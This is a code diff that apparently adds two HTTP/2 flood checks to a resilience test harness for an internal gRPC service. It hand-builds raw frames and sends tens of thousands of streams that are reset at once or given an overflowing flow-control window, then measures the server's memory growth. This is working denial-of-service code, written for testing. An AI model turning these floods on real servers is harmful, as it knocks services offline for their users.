@@ -6,6 +6,8 @@
 
 #include <algorithm>
 #include <cstddef>
+#include <cstdint>
+#include <functional>
 #include <memory>
 #include <string>
 #include <utility>
@@ -202,6 +204,75 @@ WireResult AnswersThatNobodyReads(const WireTarget& target) {
   return served.outcome == WireOutcome::kStopped ? JudgeGrowth(target, before, kMost) : served;
 }
 
+std::string Http2Frame(uint8_t type, uint8_t flags, uint32_t stream, const std::string& payload) {
+  const auto byte = [](size_t value) { return std::string(1, static_cast<char>(value & 0xff)); };
+  return absl::StrCat(byte(payload.size() >> 16), byte(payload.size() >> 8), byte(payload.size()),
+                      byte(type), byte(flags), byte(stream >> 24), byte(stream >> 16),
+                      byte(stream >> 8), byte(stream), payload);
+}
+
+// The headers of a session's call, with HPACK's static table (RFC 7541, appendix A).
+std::string SessionHeaders() {
+  const auto text = [](const std::string& value) {
+    return std::string(1, static_cast<char>(value.size())) + value;
+  };
+  return absl::StrCat("\x83\x86\x04", text("/warpline_internal.Gpu/Session"), "\x01", text("host"),
+                      "\x0f\x10", text("application/grpc"), std::string(1, '\0'), text("te"),
+                      text("trailers"));
+}
+
+// Sends `count` pieces, each of which `piece` makes for the next stream. A connection that the
+// server closes is followed by another one.
+void FloodHttp2(const WireTarget& target, int count,
+                const std::function<std::string(uint32_t stream)>& piece) {
+  UniqueFd fd;
+  uint32_t stream = 1;
+  char answers[65536];
+  for (int i = 0; i < count; ++i, stream += 2) {
+    if (!fd.valid()) {
+      fd = ConnectTcp(target, "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + Http2Frame(4, 0, 0, ""));
+      stream = 1;
+    }
+    const std::string bytes = piece(stream);
+    if (send(fd.get(), bytes.data(), bytes.size(), MSG_NOSIGNAL) < 0) fd = UniqueFd();
+    while (fd.valid() && recv(fd.get(), answers, sizeof(answers), MSG_DONTWAIT) > 0) {
+    }
+  }
+}
+
+// What a flood of HTTP/2 may cost at its highest, beyond what the server had at its highest before.
+constexpr int64_t kMostPeakKib = 128 << 10;
+
+// `count` pieces take more than kMostPeakKib of a server that takes them all.
+WireResult Http2Flood(const WireTarget& target, const std::string& what, int count,
+                      const std::function<std::string(uint32_t stream)>& piece) {
+  const int64_t before = PeakKib(target);
+  FloodHttp2(target, count * target.scale, piece);
+  const WireResult served = JudgeNeighbour(target, what);
+  if (served.outcome != WireOutcome::kStopped) return served;
+  const int64_t grown = PeakKib(target) - before;
+  const std::string detail =
+      absl::StrCat(served.detail, ", at a peak of ", grown >> 10, " MiB more");
+  return grown <= kMostPeakKib ? Stopped(detail) : Succeeded(detail);
+}
+
+WireResult StreamsThatAreReset(const WireTarget& target) {
+  return Http2Flood(target, "streams that are reset", 40'000,
+                    [headers = SessionHeaders()](uint32_t stream) {
+                      return Http2Frame(1, 4, stream, headers) +
+                             Http2Frame(3, 0, stream, std::string(3, '\0') + "\x08");
+                    });
+}
+
+// A window that overflows makes the server reset the stream, whose call it keeps.
+WireResult StreamsThatTheServerResets(const WireTarget& target) {
+  return Http2Flood(target, "streams that the server resets", 40'000,
+                    [headers = SessionHeaders()](uint32_t stream) {
+                      return Http2Frame(1, 4, stream, headers) +
+                             Http2Frame(8, 0, stream, "\x7f\xff\xff\xff");
+                    });
+}
+
 // More commands than the session's window, behind one that waits for ever.
 WireResult CommandsThatPileUp(const WireTarget& target) {
   auto opened = WireSession::Open(target);
@@ -233,6 +304,8 @@ constexpr WireAttack kAttacks[] = {
     {"connections_without_a_word", "H5", "", &ConnectionsWithoutAWord},
     {"connections_that_are_half_open", "H5", "", &HalfOpenConnections},
     {"connections_of_garbage", "L8", "", &ConnectionsOfGarbage},
+    {"streams_that_are_reset", "N1", "", &StreamsThatAreReset},
+    {"streams_that_the_server_resets", "N1", "", &StreamsThatTheServerResets},
     {"answers_that_nobody_reads", "M8", "", &AnswersThatNobodyReads},
     {"commands_that_pile_up", "M8", "", &CommandsThatPileUp},
 };
